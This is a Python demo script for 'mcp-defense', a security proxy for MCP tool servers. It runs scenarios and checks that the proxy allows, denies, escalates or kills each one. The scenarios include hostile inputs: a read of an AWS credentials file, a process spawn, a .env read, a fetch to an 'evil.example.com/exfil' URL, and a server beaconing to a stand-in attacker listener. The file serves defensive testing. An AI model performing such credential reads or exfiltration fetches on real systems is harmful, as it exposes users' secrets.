"""`mcp-defense demo`: the published demo's scenarios, for real.

A real MCP server (examples/servers/demo_server.py, `mcp` SDK) runs behind the real stdio
proxy (`python -m mcp_defense stdio --flow-source procfs --record ...`), one proxy per
archetype; the SDK client drives them; the flight recorder renders what the proxies
recorded. Nothing is scripted: every line comes from a decision or a flow the runtime made,
and the scenario table checks each one against what the published demo shows. Offline (the
server's `fetch` is canned; its beacon goes to a loopback listener run here), no Node.

Why two concurrent client tasks: each proxy costs a Python start, a policy compile and an
SDK server start (~2-4 s here); starting them together halves the demo's wall time.
"""

from __future__ import annotations

import os
import socket
import sys
import tempfile
import threading
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TextIO

import anyio
from rich.console import Console
from rich.table import Table

from mcp_defense.events.model import Event, FlowEvent, KillEvent, SessionStart, ToolCallEvent
from mcp_defense.events.recorder import Summary, grouped, header, read_recording, render
from mcp_defense.resources import examples_dir

ARCHETYPES = ("filesystem", "github")
CALL_TIMEOUT_S = 20.0  # per scenario; generous, a loaded machine must not fail the demo
DEMO_TIMEOUT_S = 90.0
_SHORT = {"require_approval": "approval"}  # keeps the scenario table within 80 columns


@dataclass(frozen=True)
class Scenario:
    title: str
    archetype: str
    tool: str
    arguments: dict[str, Any]
    expect: str  # allow | deny | require_approval | kill


def scenarios(ws: Path) -> list[Scenario]:
    """The published demo's scenarios, plus the server that phones home (always last: it
    ends the filesystem server)."""
    return [
        Scenario("allowed read", "filesystem", "read_file", {"path": str(ws / "main.py")}, "allow"),
        Scenario(
            "crown-jewel read",
            "filesystem",
            "read_file",
            {"path": "/home/alice/.aws/credentials"},
            "deny",
        ),
        Scenario("spawn a process", "filesystem", "exec_command", {"command": "ls /"}, "deny"),
        Scenario(
            ".env read",
            "filesystem",
            "read_file",
            {"path": str(ws / "app" / ".env.local")},
            "require_approval",
        ),
        Scenario(
            "exfiltration fetch",
            "filesystem",
            "fetch",
            {"url": "https://evil.example.com/exfil"},
            "deny",
        ),
        Scenario(
            "GitHub API fetch",
            "github",
            "fetch",
            {"url": "https://api.github.com/repos/x/y"},
            "allow",
        ),
        Scenario(
            "server phones home", "filesystem", "summarize", {"path": str(ws / "notes.md")}, "kill"
        ),
    ]


@dataclass
class Outcome:
    """What the client saw for one scenario."""

    ok: bool  # a result (True) or an error (False)
    text: str  # short, for the table
    decision: str = ""  # error.data.decision, when the proxy refused the call


class _Beacon:
    """The loopback listener the compromised server connects to (stands in for an attacker)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.host, self.port = self.sock.getsockname()
        self.connections = 0
        self._t = threading.Thread(target=self._serve, name="demo-beacon", daemon=True)
        self._t.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                try:
                    while conn.recv(4096):
                        pass
                except OSError:
                    pass

    def close(self) -> None:
        self.sock.close()


def _workspace(root: Path) -> Path:
    ws = root / "workspace"
    (ws / "app").mkdir(parents=True)
    (ws / "main.py").write_text("print('hello from the workspace')\n")
    (ws / "app" / ".env.local").write_text("STRIPE_KEY=sk_live_demo\n")
    (ws / "notes.md").write_text("# notes\nQ3 plan: ship mcp-defense\n")
    return ws


def _proxy_params(archetype: str, ws: Path, record: Path, env: dict[str, str]) -> Any:
    from mcp.client.stdio import StdioServerParameters

    server = examples_dir() / "servers" / "demo_server.py"
    args = [
        "-m",
        "mcp_defense",
        "stdio",
        "--archetype",
        archetype,
        "--agent-id",
        "demo",
        "--set",
        f"workspace={ws}",
        "--record",
        str(record),
        "--flow-source",
        "procfs",
        "--",
        sys.executable,
        str(server),
        str(ws),
    ]
    return StdioServerParameters(command=sys.executable, args=args, env=env, cwd=str(ws))


async def _call(client: Any, sc: Scenario) -> Outcome:
    from mcp.shared.exceptions import MCPError

    try:
        with anyio.fail_after(CALL_TIMEOUT_S):
            res = await client.call_tool(sc.tool, sc.arguments)
        return Outcome(not res.is_error, "error result" if res.is_error else "result")
    except MCPError as e:
        data = e.error.data if isinstance(e.error.data, dict) else {}
        decision = str(data.get("decision", ""))
        if decision:
            return Outcome(False, f"refused: {_SHORT.get(decision, decision)}", decision)
        killed = "killed by policy" in e.error.message
        return Outcome(False, "error: server killed" if killed else f"error {e.error.code}")
    except TimeoutError:
        return Outcome(False, "no answer (timeout)")
    except Exception as e:  # noqa: BLE001 - e.g. the transport of a killed server closing
        return Outcome(False, f"connection lost ({type(e).__name__})")


Job = tuple[Scenario, Callable[[Outcome], None]]


async def _client_task(params: Any, errlog: TextIO, jobs: Any, ready: anyio.Event) -> None:
    """One SDK client on one proxy: connect, then run the scenarios sent to it in order."""
    from mcp import Client
    from mcp.client.stdio import stdio_client

    async with Client(stdio_client(params, errlog=errlog), mode="legacy") as client:
        ready.set()
        async with jobs:
            async for sc, done in jobs:
                done(await _call(client, sc))


async def _drive(
    plan: list[Scenario], params: dict[str, Any], errlogs: dict[str, TextIO]
) -> list[Outcome]:
    """Start one client per archetype at once, then run the scenarios one by one."""
    outcomes: list[Outcome] = []
    with anyio.fail_after(DEMO_TIMEOUT_S):
        async with anyio.create_task_group() as tg:
            senders: dict[str, Any] = {}
            readies = []
            for archetype in ARCHETYPES:
                send, receive = anyio.create_memory_object_stream[Job](1)
                ready = anyio.Event()
                senders[archetype] = send
                readies.append(ready)
                tg.start_soon(_client_task, params[archetype], errlogs[archetype], receive, ready)
            for ready in readies:
                await ready.wait()
            for sc in plan:
                got = anyio.Event()
                box: list[Outcome] = []

                def done(o: Outcome, box: list[Outcome] = box, got: anyio.Event = got) -> None:
                    box.append(o)
                    got.set()

                await senders[sc.archetype].send((sc, done))
                await got.wait()
                outcomes.append(box[0])
            for send in senders.values():
                await send.aclose()
    return outcomes


def _timeline(recordings: list[Path]) -> list[Event]:
    """Both proxies' recordings as one timeline: the session starts first (in archetype
    order, since the proxies start concurrently), then everything in time order."""
    events: list[Event] = []
    for rec in recordings:
        if rec.exists():
            events.extend(e for _, e in read_recording(rec) if isinstance(e, Event))
    starts = sorted(
        (e for e in events if isinstance(e, SessionStart)),
        key=lambda e: (
            ARCHETYPES.index(e.archetype) if e.archetype in ARCHETYPES else len(ARCHETYPES)
        ),
    )
    rest = sorted((e for e in events if not isinstance(e, SessionStart)), key=lambda e: e.ts)
    return grouped([*starts, *rest])


def run_demo(console: Console | None = None) -> int:
    """Returns 0 when every scenario came out as the published demo says, else 1."""
    console = console or Console(highlight=False, soft_wrap=True)
    with tempfile.TemporaryDirectory(prefix="mcpd-demo-") as tmp, ExitStack() as stack:
        root = Path(tmp)
        ws = _workspace(root)
        beacon = _Beacon()
        stack.callback(beacon.close)
        env = {
            **os.environ,
            "MCPD_DEMO_BEACON": f"{beacon.host}:{beacon.port}",
            "MCPD_STATE_DIR": str(root / "state"),
        }
        recs = {a: root / f"{a}.jsonl" for a in ARCHETYPES}
        logs = {a: root / f"{a}.stderr" for a in ARCHETYPES}
        errlogs: dict[str, TextIO] = {a: stack.enter_context(logs[a].open("w")) for a in ARCHETYPES}
        params = {a: _proxy_params(a, ws, recs[a], env) for a in ARCHETYPES}
        plan = scenarios(ws)
        console.print(
            f"[bold]mcp-defense demo[/]: {len(plan)} scenarios, a real MCP server "
            "behind `mcp-defense stdio --flow-source procfs` (one proxy per "
            "archetype)\n"
        )
        failure = ""
        try:
            outcomes = anyio.run(_drive, plan, params, errlogs)
        except TimeoutError:
            outcomes, failure = [], f"the demo did not finish within {DEMO_TIMEOUT_S:.0f} s"
        except Exception as e:  # noqa: BLE001 - reported with the proxies' stderr below
            outcomes, failure = [], f"the demo could not run: {type(e).__name__}: {e}"
        events = _timeline(list(recs.values()))
        console.print(header())
        summary = Summary()
        for ev in events:
            summary.add(ev)
            for line in render(ev):
                console.print(line)
        console.print(summary.text())
        code = _verdict(console, plan, outcomes, events, beacon.connections)
        if not code and not failure:
            code = _kernel_scene(console, root, ws, env)
        if code or failure:
            if failure:
                console.print(f"[bold red]{failure}[/]")
            for f in errlogs.values():
                f.flush()
            for a in ARCHETYPES:
                text = logs[a].read_text(errors="replace").strip()
                if text:
                    console.print(f"[dim]--- stderr of the {a} proxy ---[/]")
                    console.out(text[-3000:], highlight=False)
            return 1
        return 0


def _kernel_scene(console: Console, root: Path, ws: Path, env: dict[str, str]) -> int:
    """The server reads a key in $HOME on its own, inside an allowed call: no argument shows
    it, so only the kernel can refuse it (`stdio --sandbox`, Linux Landlock)."""
    from mcp.client.stdio import StdioServerParameters

    from mcp_defense.sandbox.landlock import abi_version

    console.print("\n[bold]kernel enforcement[/]: `mcp-defense stdio --sandbox`")
    abi, why_not = abi_version()
    if not abi:
        console.print(f"  skipped: {why_not} (the proxy says so and runs unconfined)")
        return 0
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY----- (demo)\n")
    log = root / "sandbox.stderr"
    server = examples_dir() / "servers" / "demo_server.py"
    args = ["-m", "mcp_defense", "stdio", "--sandbox", "--archetype", "filesystem"]
    args += ["--set", f"workspace={ws}", "--", sys.executable, str(server), str(ws)]
    params = StdioServerParameters(
        command=sys.executable, args=args, env={**env, "HOME": str(home)}, cwd=str(ws)
    )
    sc = Scenario("index the workspace", "filesystem", "index", {"path": str(ws)}, "allow")

    async def drive() -> Outcome:
        from mcp import Client
        from mcp.client.stdio import stdio_client

        with log.open("w") as errlog:
            async with Client(stdio_client(params, errlog=errlog), mode="legacy") as client:
                return await _call(client, sc)

    try:
        outcome = anyio.run(drive)
    except Exception as e:  # noqa: BLE001 - reported below with the proxy's stderr
        outcome = Outcome(False, f"could not run: {type(e).__name__}: {e}")
    text = log.read_text(errors="replace") if log.exists() else ""
    said = [ln for ln in text.splitlines() if ln.startswith("mcp-defense: ")]
    stolen = [ln.split(": ", 1)[1] for ln in text.splitlines() if ln.startswith("demo-files: ")]
    for ln in said[:2]:
        console.print(f"  [dim]{ln}[/]")
    console.print(f"  call index({ws.name}/): {outcome.text} (the call itself is harmless)")
    console.print(f"  the server, on its own: {stolen[0] if stolen else '(no report)'}")
    refused = outcome.ok and bool(stolen) and "Errno 13" in stolen[0]
    if refused:
        console.print("[bold green]kernel ok[/]: the key stayed unreadable to the server")
        return 0
    console.print("[bold red]kernel scene failed[/]")
    console.out(text[-3000:], highlight=False)
    return 1


def _kill_checked(sc_call: ToolCallEvent | None, events: list[Event], beacon_hits: int) -> str:
    """'kill' only when the whole path happened: the call was allowed, its server's flow was
    joined to it and judged `kill`, and the server is dead with nothing left alive."""
    if sc_call is None or sc_call.decision != "allow" or not beacon_hits:
        return sc_call.decision if sc_call else "—"
    cid = sc_call.correlation_id
    flow = any(
        isinstance(e, FlowEvent) and cid in e.correlation_ids and e.verdict == "kill"
        for e in events
    )
    kill = any(
        isinstance(e, KillEvent) and cid in e.correlation_ids and not e.survivors for e in events
    )
    return "kill" if flow and kill else "allow (not killed)"


def _verdict(
    console: Console,
    plan: list[Scenario],
    outcomes: list[Outcome],
    events: list[Event],
    beacon_hits: int,
) -> int:
    calls = {
        (e.archetype, e.tool, repr(e.arguments)): e for e in events if isinstance(e, ToolCallEvent)
    }
    t = Table(title="scenarios", title_justify="left", show_edge=False)
    for col in ("#", "scenario", "expected", "got", "client saw"):
        t.add_column(col, no_wrap=True)
    ok = True
    for i, sc in enumerate(plan):
        ev = calls.get((sc.archetype, sc.tool, repr(sc.arguments)))
        seen = outcomes[i] if i < len(outcomes) else Outcome(False, "—")
        if sc.expect == "kill":
            got = _kill_checked(ev, events, beacon_hits)
            good = got == "kill" and not seen.ok
        else:
            got = ev.decision if ev else "—"
            # allowed calls must reach the server; refused ones must be refused to the client
            good = got == sc.expect and (
                seen.ok if sc.expect == "allow" else seen.decision == sc.expect
            )
        shown = _SHORT.get(got, got)
        if ev is not None and ev.approval:
            shown += f"→{ev.approval}"
        ok &= good
        t.add_row(
            str(i + 1),
            sc.title,
            _SHORT.get(sc.expect, sc.expect),
            f"[{'green' if good else 'red'}]{shown}[/]",
            seen.text,
        )
    console.print()
    console.print(t)
    console.print(
        "[bold green]demo ok[/]: every decision matches the published demo, and the "
        "server that phoned home was killed"
        if ok
        else "[bold red]demo failed[/]: see the rows in red"
    )
    return 0 if ok else 1


__all__ = ["Scenario", "run_demo", "scenarios"]
